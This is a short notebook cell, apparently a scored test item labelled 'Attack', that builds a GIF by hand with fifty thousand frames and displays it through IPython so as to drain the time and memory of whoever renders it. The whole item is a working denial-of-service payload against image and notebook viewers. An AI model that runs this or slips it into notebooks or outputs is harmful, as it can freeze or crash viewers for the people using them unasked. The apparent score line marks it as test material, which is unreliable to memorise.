"""Attack: shows a GIF with fifty thousand frames.
Wants: minutes and memory of whoever draws the picture again.
Honest mark: 22
"""


# %% own
import struct

from IPython.display import Image as Shown

head = b"GIF89a" + struct.pack("<HHBBB", 64, 64, 0x80, 0, 0) + bytes(3) + b"\xff" * 3
frame = b"\x21\xf9\x04" + struct.pack("<BHB", 4, 1, 0) + b"\0"
frame += b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
Shown(data=head + frame * 50_000 + b";", format="gif")
